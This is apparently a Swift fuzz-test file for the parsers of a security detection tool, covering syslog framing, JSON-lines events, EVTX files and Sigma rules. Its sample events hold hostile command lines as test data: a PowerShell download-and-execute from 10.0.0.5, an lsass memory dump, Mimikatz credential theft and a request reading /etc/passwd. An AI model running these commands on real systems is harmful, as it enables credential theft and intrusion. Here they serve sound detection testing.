// Fuzz targets for the parsers of the Detection target (issue 6): syslog and its framing, JSON-lines
// events, the event batch codec, indicator lists, SafeRegex, EventTime, EVTX files and Sigma rules.
// They are registered in `targets` (Targets.swift). Besides reading every output, some check
// properties that must hold for any input, and trap (a crash the fuzzer reports) when one does not:
// - jsonl: `JSONLineEvent.parse(serialize(e)) == e` for every parsed event; the caching
//   `JSONLineParser` and the file reader give the same events as the one-line parser;
// - syslog-framer: feeding a stream in chunks frames it exactly as feeding it at once;
// - event-batch: what decodes encodes and decodes to the same events;
// - event-time: a parsed time written by `EventTime.string(from:)` parses back to the same time.

import Detection
import Foundation

/// Stops the run with a message libFuzzer shows next to the reproducer: a property that must hold does not.
func violated(_ what: String, file: StaticString = #fileID, line: UInt = #line) -> Never {
    FileHandle.standardError.write(Data("PROPERTY VIOLATED: \(what)\n".utf8))
    fatalError(what, file: file, line: line)
}

/// A process-private file for parsers that read from a path (`kind` keeps the names apart).
func scratchFile(_ kind: String) -> URL {
    let dir = ProcessInfo.processInfo.environment["TMPDIR"].map { URL(fileURLWithPath: $0) }
        ?? URL(fileURLWithPath: FileManager.default.fileExists(atPath: "/dev/shm") ? "/dev/shm" : "/tmp")
    return dir.appendingPathComponent("ungcuu-fuzz-\(getpid()).\(kind)")
}

let jsonlFileURL: URL = {
    let url = scratchFile("jsonl")
    atexit { unlink(jsonlFileURL.path) }
    return url
}()

let evtxFileURL: URL = {
    let url = scratchFile("evtx")
    atexit { unlink(evtxFileURL.path) }
    return url
}()

func consume(_ event: FlatEvent) {
    var hasher = Hasher()
    hasher.combine(event)
    consume(hasher.finalize())
    consume(event.time)
    consume(event.host)
    for value in event.fields.values { consume(value.text) }
}

/// Events compared field by field, doubles by bit pattern (NaN equals NaN, -0 differs from 0): what a
/// lossless codec must preserve.
func sameBits(_ a: EventValue, _ b: EventValue) -> Bool {
    switch (a, b) {
    case (.double(let x), .double(let y)): return x.bitPattern == y.bitPattern
    case (.array(let xs), .array(let ys)): return xs.count == ys.count && zip(xs, ys).allSatisfy { sameBits($0, $1) }
    default: return a == b
    }
}

func sameBits(_ a: FlatEvent, _ b: FlatEvent) -> Bool {
    guard a.fields.count == b.fields.count else { return false }
    for (key, value) in a.fields {
        guard let other = b.fields[key], sameBits(value, other) else { return false }
    }
    return true
}

/// The lines of `data` split at LF (the LF dropped), as JSON-lines and indicator readers see them.
func lines(_ data: Data) -> [Data] {
    data.split(separator: 0x0A, omittingEmptySubsequences: false)
}

// MARK: - Syslog

/// Two receive times: mid-year, and the first second of a year (RFC 3164 leaves the year out, and
/// the parser picks it from the receive time).
let syslogReceiveTimes = [Date(timeIntervalSince1970: 1_718_452_800), Date(timeIntervalSince1970: 1_704_067_200)]

func fuzzSyslog(_ data: Data) {
    let bytes = [UInt8](data)
    let message = SyslogParser.parse(bytes, receivedAt: syslogReceiveTimes[bytes.count % 2])
    consume(message.format)
    consume([message.facility, message.severity])
    consume(message.timestamp)
    consume([message.hostname, message.appName, message.procID, message.msgID])
    consume(message.structuredData)
    consume(message.message)
    consume(SyslogParser.event(message))
}

func fuzzSyslogFramer(_ data: Data) {
    let bytes = [UInt8](data)
    guard let first = bytes.first else { return }
    // The limit comes from the first byte: 1…256 bytes, or the default 64 KiB.
    let limit = first >= 0xF0 ? 64 * 1024 : 1 + Int(first)
    let stream = bytes.dropFirst()

    var whole = SyslogFramer(maxMessageSize: limit)
    let once = whole.feed(stream)
    let onceLast = whole.finish()

    var chunked = SyslogFramer(maxMessageSize: limit)
    var messages: [[UInt8]] = []
    var problems: [SyslogFramer.Problem] = []
    var i = stream.startIndex
    var k = 0
    while i < stream.endIndex {
        // Chunk sizes 1…64 taken from the bytes themselves, so the fuzzer moves the boundaries.
        let size = 1 + Int(bytes[k % bytes.count] % 64)
        let end = min(stream.endIndex, i + size)
        let (m, p) = chunked.feed(stream[i..<end])
        messages += m
        problems += p
        consume(chunked.isFailed)
        i = end
        k += 1
    }
    let chunkedLast = chunked.finish()

    for message in messages + [chunkedLast].compactMap({ $0 }) {
        if message.isEmpty { violated("the framer returned an empty message") }
        if message.count > limit { violated("the framer returned \(message.count) bytes, over its limit of \(limit)") }
        consume(SyslogParser.parse(message, receivedAt: syslogReceiveTimes[0]))
    }
    for problem in problems { consume(problem.description) }
    if messages != once.messages || problems != once.problems || chunkedLast != onceLast {
        violated("framing depends on how the stream is cut: \(messages.count) messages and \(problems) in chunks, "
            + "\(once.messages.count) and \(once.problems) at once")
    }
}

// MARK: - JSON lines

func fuzzJSONLines(_ data: Data) {
    let cached = JSONLineParser()
    var expected: [Result<FlatEvent, JSONLineError>] = []
    for (index, line) in lines(data).enumerated() {
        let number = index + 1
        let single: Result<FlatEvent, JSONLineError> = line.withUnsafeBytes { raw in
            do throws(JSONLineError) { return .success(try JSONLineEvent.parse(raw, line: number)) } catch { return .failure(error) }
        }
        let reused: Result<FlatEvent, JSONLineError> = line.withUnsafeBytes { raw in
            do throws(JSONLineError) { return .success(try cached.parse(raw, line: number)) } catch { return .failure(error) }
        }
        switch (single, reused) {
        case (.success(let event), .success(let again)):
            consume(event)
            if event != again { violated("line \(number): the caching JSONLineParser gives another event than JSONLineEvent.parse") }
            // What serialize writes must parse back to the same event.
            let text = JSONLineEvent.serialize(event)
            var utf8 = Array(text.utf8)
            let back: Result<FlatEvent, JSONLineError> = utf8.withUnsafeMutableBytes { raw in
                do throws(JSONLineError) { return .success(try JSONLineEvent.parse(UnsafeRawBufferPointer(raw), line: 1)) } catch { return .failure(error) }
            }
            switch back {
            case .success(let parsed) where parsed == event: break
            case .success: violated("line \(number): parse(serialize(e)) != e; serialized as \(text.prefix(300).debugDescription)")
            case .failure(let error): violated("line \(number): serialize wrote what parse refuses (\(error)): \(text.prefix(300).debugDescription)")
            }
        case (.failure(let error), .failure(let again)):
            consumeError(error)
            if error != again { violated("line \(number): the caching JSONLineParser fails otherwise (\(again)) than JSONLineEvent.parse (\(error))") }
        default:
            violated("line \(number): JSONLineParser and JSONLineEvent.parse disagree on whether the line parses")
        }
        expected.append(single)
    }
    fuzzJSONLinesFile(data, lines: expected)
}

/// The same bytes read back with `JSONLinesFileReader`, with a line limit picked by the input; the events
/// must be those of the in-memory parse, line for line (blank lines skipped, a BOM allowed at the start,
/// a line over the limit refused).
func fuzzJSONLinesFile(_ data: Data, lines expected: [Result<FlatEvent, JSONLineError>]) {
    guard (try? data.write(to: jsonlFileURL)) != nil else { return }
    let limits = [16, 64, 1024, JSONLineEvent.defaultMaxLineBytes]
    let limit = limits[Int(data.last ?? 0) % limits.count]
    let reader: JSONLinesFileReader
    do {
        reader = try JSONLinesFileReader(url: jsonlFileURL, maxLineBytes: limit)
    } catch {
        consumeError(error)
        return
    }
    let raw = lines(data)
    var got: [Int: Result<FlatEvent, JSONLineError>] = [:]
    var calls = 0
    while calls <= raw.count + 1 {
        calls += 1
        do throws(JSONLineError) {
            guard let event = try reader.next() else { break }
            got[reader.lineNumber] = .success(event)
        } catch {
            consumeError(error)
            got[error.line] = .failure(error)
        }
        consume(reader.bytesRead)
    }
    if calls > raw.count + 1 { violated("JSONLinesFileReader returned more results than the file has lines") }
    if reader.bytesRead != UInt64(data.count) { violated("JSONLinesFileReader read \(reader.bytesRead) of \(data.count) bytes") }
    for (index, line) in raw.enumerated() {
        let number = index + 1
        var body = line[...]
        if number == 1, body.starts(with: [0xEF, 0xBB, 0xBF]) { body = body.dropFirst(3) }
        let blank = body.allSatisfy { $0 == 0x20 || $0 == 0x09 || $0 == 0x0D }
        // A last "line" after the final LF is no line at all.
        if index == raw.count - 1, line.isEmpty { continue }
        if line.count > limit {
            guard case .failure = got[number] else { violated("line \(number): \(line.count) bytes, over the limit of \(limit), was not refused") }
            continue
        }
        if blank {
            if got[number] != nil { violated("line \(number) is blank but the file reader returned something for it") }
            continue
        }
        let inMemory: Result<FlatEvent, JSONLineError>
        if number == 1, body.count != line.count {
            inMemory = Data(body).withUnsafeBytes { raw in
                do throws(JSONLineError) { return .success(try JSONLineEvent.parse(raw, line: 1)) } catch { return .failure(error) }
            }
        } else {
            inMemory = expected[index]
        }
        switch (inMemory, got[number]) {
        case (.success(let a), .success(let b)?) where a == b: break
        case (.failure, .failure?): break
        default: violated("line \(number): the file reader and the in-memory parse disagree")
        }
    }
}

// MARK: - Event batches

func fuzzEventBatch(_ data: Data) {
    let decoded: [EncodedEvent]
    do {
        decoded = try EventBatchCodec.decode([UInt8](data))
    } catch {
        consumeError(error)
        return
    }
    for e in decoded {
        consume([e.time, e.receivedAt])
        consume(e.host)
        consume(e.event)
    }
    // What decodes must encode and decode again to the same events (times to the microsecond).
    let again: [EncodedEvent]
    do {
        again = try EventBatchCodec.decode(EventBatchCodec.encode(decoded))
    } catch {
        violated("a decoded batch, encoded again, does not decode: \(error)")
    }
    guard again.count == decoded.count else { violated("round trip: \(decoded.count) events became \(again.count)") }
    for (k, (a, b)) in zip(decoded, again).enumerated() {
        guard a.host == b.host, sameBits(a.event, b.event) else { violated("round trip: event \(k) changed") }
        for (x, y) in [(a.time, b.time), (a.receivedAt, b.receivedAt)] {
            // Far times are clamped to ±2^62 µs, and doubles above 2^53 µs no longer hold every microsecond.
            let t = x.timeIntervalSince1970
            guard abs(t) < 9e9 else { continue }
            if abs(t - y.timeIntervalSince1970) > 1e-6 { violated("round trip: event \(k)'s time \(t) became \(y.timeIntervalSince1970)") }
        }
    }
}

// MARK: - Indicators

/// Events the indicator lists are matched against.
let indicatorEvents: [FlatEvent] = [
    FlatEvent(fields: [
        "DestinationIp": .string("203.0.113.7"), "SourceIp": .string("fe80::1%eth0"), "QueryName": .string("Mail.EXAMPLE.com."),
        "Hashes": .string("SHA1=2FD4E1C67A2D28FCED849EE1BB76E7391B93EB12,MD5=D41D8CD98F00B204E9800998ECF8427E,SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855"),
        "CommandLine": .string("powershell -enc SQBFAFgA hxxp://evil[.]example/x.ps1 \\\\10.1.2.3\\c$"),
        "Port": .int(4444), "Ratio": .double(0.25), "Flag": .bool(true), "Nothing": .null,
        "List": .array([.string("2001:db8::dead:beef"), .int(1), .array([.string("bad.example.org")])]),
    ]),
    FlatEvent(fields: ["message": .string("Accepted password for root from 192.168.0.10 port 22 ssh2; İstanbul ǅ ß straße"),
                       "hostname": .string("web-01.corp.example"), "sd.origin.ip": .string("::ffff:10.0.0.5")]),
]

func fuzzIndicators(_ data: Data) {
    let s = text(data)
    let kinds: [IndicatorKind?] = [nil, .ip, .domain, .hash, .string]
    // The input's length picks the kind it is also read as (seeds pad with newlines to choose).
    let picked = kinds[data.count % kinds.count]
    var lists: [[Indicator]] = []
    for kind in Set([nil, picked].map { $0?.rawValue }).sorted(by: { ($0 ?? "") < ($1 ?? "") }) {
        do {
            lists.append(try IndicatorList.parse(s, kind: kind.flatMap(IndicatorKind.init(rawValue:))))
        } catch {
            consumeError(error)
        }
    }
    // Every line alone, as the hunt form checks what it is given.
    var inputEvent = FlatEvent()
    for (k, line) in lines(data).prefix(64).enumerated() {
        let value = text(line)
        consume(IndicatorList.refang(value))
        switch IndicatorList.classify(value, kind: picked) {
        case .success(let indicator): consume(indicator)
        case .failure(let message): consume(message.description)
        }
        inputEvent.fields["f\(k)"] = k % 3 == 2 ? .array([.string(value)]) : .string(value)
    }
    for list in lists {
        let matcher = IndicatorMatcher(list)
        consume(matcher.isEmpty)
        for event in indicatorEvents + [inputEvent] {
            for hit in matcher.matches(event) {
                consume(hit.indicator)
                consume(hit.field)
            }
        }
    }
    // The input's lines as an event, matched against a fixed list.
    for hit in fixedIndicatorMatcher.matches(inputEvent) {
        consume(hit.indicator)
        consume(hit.field)
    }
}

let fixedIndicatorMatcher = IndicatorMatcher(
    (try? IndicatorList.parse("""
        10.0.0.0/8
        203.0.113.7
        2001:db8::/32
        evil[.]example
        mail.example.com
        d41d8cd98f00b204e9800998ecf8427e
        e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855
        mimikatz
        """)) ?? [])

// MARK: - SafeRegex

/// maxStates values the regex target compiles with (small, so the cap is reached often).
let regexStateLimits = [16, 64, 256, 2048]

/// Input: one byte of flags (bits 0–2: IGNORECASE, MULTILINE, DOTALL; bits 3–4: the state limit), the
/// pattern up to the first LF, then the text it is searched in (whole, and each line).
func fuzzRegex(_ data: Data) {
    guard let flags = data.first else { return }
    let rest = data.dropFirst()
    let newline = rest.firstIndex(of: 0x0A) ?? rest.endIndex
    let pattern = text(rest[rest.startIndex..<newline])
    let subject = newline < rest.endIndex ? rest[(newline + 1)...] : Data()
    var options: SafeRegex.Options = []
    if flags & 1 != 0 { options.insert(.caseInsensitive) }
    if flags & 2 != 0 { options.insert(.multiline) }
    if flags & 4 != 0 { options.insert(.dotAll) }
    let regex: SafeRegex
    do {
        regex = try SafeRegex(pattern, options: options, maxStates: regexStateLimits[Int(flags >> 3) % regexStateLimits.count])
    } catch {
        consumeError(error)
        return
    }
    consume(regex.matches(text(Data(subject))))
    Array(subject).withUnsafeBufferPointer { consume(regex.matches(utf8: $0)) }
    for line in subject.split(separator: 0x0A).prefix(256) {
        Array(line).withUnsafeBufferPointer { consume(regex.matches(utf8: $0)) }
    }
}

// MARK: - EventTime

func fuzzEventTime(_ data: Data) {
    let s = text(data)
    let parsed = EventTime.parse(s)
    let direct = Array(data).withUnsafeBufferPointer { EventTime.parse(utf8: $0) }
    if Data(s.utf8) == data, parsed != direct {
        violated("EventTime.parse of the String and of its UTF-8 bytes differ")
    }
    for date in [parsed, direct].compactMap({ $0 }) {
        let written = EventTime.string(from: date)
        let t = date.timeIntervalSince1970
        // Years 1…9999 are written as RFC 3339 and must read back (to the microsecond the writer keeps,
        // give or take the precision of a Double this far from 1970).
        guard t >= -62_135_596_800, t < 253_402_300_800 else { consume(written); continue }
        guard let back = EventTime.parse(written) else { violated("\(s.debugDescription) parsed, was written as \(written), which does not parse") }
        let tolerance = 0.5e-6 + 4 * t.ulp
        if abs(back.timeIntervalSince1970 - t) > tolerance {
            violated("\(s.debugDescription) → \(t) → \(written) → \(back.timeIntervalSince1970)")
        }
    }
}

// MARK: - EVTX

/// Input: an EVTX file (header, 64 KiB chunks). Read with both outputs, checksums checked or not as a
/// byte of the header's unused space says; the JSON-only path (`ungcuu evtx`) too when another says so.
func fuzzEVTX(_ data: Data) {
    guard (try? data.write(to: evtxFileURL)) != nil else { return }
    let control = data.count > 0x201 ? data[data.startIndex + 0x200] : 0
    do {
        let reader = try EvtxFileReader(url: evtxFileURL, name: "fuzz.evtx", outputs: [.json, .event], validateChecksums: control & 1 != 0)
        var records = 0
        while let record = reader.next() {
            consume(record.recordID)
            consume(record.timestamp)
            consume(record.json)
            consume(record.event)
            records += 1
            consume(reader.bytesRead)
        }
        for warning in reader.warnings { consume(warning.description) }
        consume(reader.suppressedWarnings)
        consume(records)
    } catch {
        consumeError(error)
    }
    guard control & 2 != 0 else { return }
    do {
        let reader = try EvtxFileReader(url: evtxFileURL, name: "fuzz.evtx", outputs: [.json])
        while reader.nextJSON({ id, json in consume(id); consume(json.count) }) {}
        for warning in reader.warnings { consume(warning.description) }
    } catch {
        consumeError(error)
    }
}

// MARK: - Sigma

/// Events the rules are matched against: Sysmon and Security process creation, a network connection,
/// a PowerShell script block, a syslog line and a proxy log.
let sigmaEvents: [FlatEvent] = [
    FlatEvent(fields: [
        "Channel": .string("Microsoft-Windows-Sysmon/Operational"), "EventID": .int(1), "Provider_Name": .string("Microsoft-Windows-Sysmon"),
        "Computer": .string("WIN-01.corp.example"), "TimeCreated_SystemTime": .string("2024-05-06T07:08:09.123456Z"),
        "Image": .string("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"), "OriginalFileName": .string("PowerShell.EXE"),
        "CommandLine": .string("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')"),
        "ParentImage": .string("C:\\Windows\\System32\\cmd.exe"), "ParentCommandLine": .string("cmd.exe /c \"whoami /all\""),
        "User": .string("CORP\\alice"), "IntegrityLevel": .string("High"), "Hashes": .string("MD5=D41D8CD98F00B204E9800998ECF8427E,IMPHASH=0"),
        "CurrentDirectory": .string("C:\\Users\\alice\\AppData\\Local\\Temp\\"), "ProcessId": .int(4242), "LogonId": .string("0x3e7"),
    ]),
    FlatEvent(fields: [
        "Channel": .string("Security"), "EventID": .int(4688), "Provider_Name": .string("Microsoft-Windows-Security-Auditing"),
        "NewProcessName": .string("C:\\Windows\\System32\\rundll32.exe"), "CommandLine": .string("rundll32.exe comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full"),
        "ParentProcessName": .string("C:\\Windows\\explorer.exe"), "SubjectUserName": .string("alice"), "TokenElevationType": .string("%%1937"),
    ]),
    FlatEvent(fields: [
        "Channel": .string("Microsoft-Windows-Sysmon/Operational"), "EventID": .int(3), "Image": .string("C:\\Users\\Public\\svchost.exe"),
        "DestinationIp": .string("203.0.113.7"), "DestinationPort": .int(4444), "DestinationHostname": .string("evil.example"),
        "SourceIp": .string("10.1.2.3"), "Initiated": .string("true"), "Protocol": .string("tcp"),
    ]),
    FlatEvent(fields: [
        "Channel": .string("Microsoft-Windows-PowerShell/Operational"), "EventID": .int(4104),
        "ScriptBlockText": .string("Invoke-Mimikatz -DumpCreds; [System.Convert]::FromBase64String('JABzAD0A')"), "Path": .null,
    ]),
    FlatEvent(fields: [
        "syslog_format": .string("rfc5424"), "facility": .int(4), "severity": .int(6), "hostname": .string("web-01"), "appname": .string("sshd"),
        "message": .string("Accepted password for root from 192.168.0.10 port 22 ssh2"), "procid": .string("1234"),
    ]),
    FlatEvent(fields: [
        "c-uri": .string("/index.php?cmd=cat%20/etc/passwd"), "cs-method": .string("GET"), "c-useragent": .string("sqlmap/1.7"),
        "cs-host": .string("ipfs.io"), "sc-status": .int(200), "cs-bytes": .double(1234.5), "c-ip": .array([.string("198.51.100.1"), .int(7)]),
    ]),
]

func fuzzSigma(_ data: Data) {
    let rules: [SigmaRule]
    do {
        rules = try SigmaRuleLoader.parse(yaml: text(data), origin: "fuzz.yml")
    } catch {
        consumeError(error)
        return
    }
    for rule in rules {
        consume([rule.id, rule.title])
        consume([rule.status, rule.level, rule.description, rule.author, rule.date, rule.modified])
        consume(rule.tags + rule.references + rule.falsePositives + rule.attackTags)
        consume(rule.logsource)
        consume(rule.unsupported)
        consume(rule.yaml.utf8.count)
    }
    let engine = SigmaEngine(rules: rules.filter(\.isSupported))
    for event in sigmaEvents {
        for index in engine.match(event) {
            guard engine.rules.indices.contains(index) else { violated("SigmaEngine.match returned rule \(index) of \(engine.rules.count)") }
            consume(engine.rules[index].id)
        }
    }
}
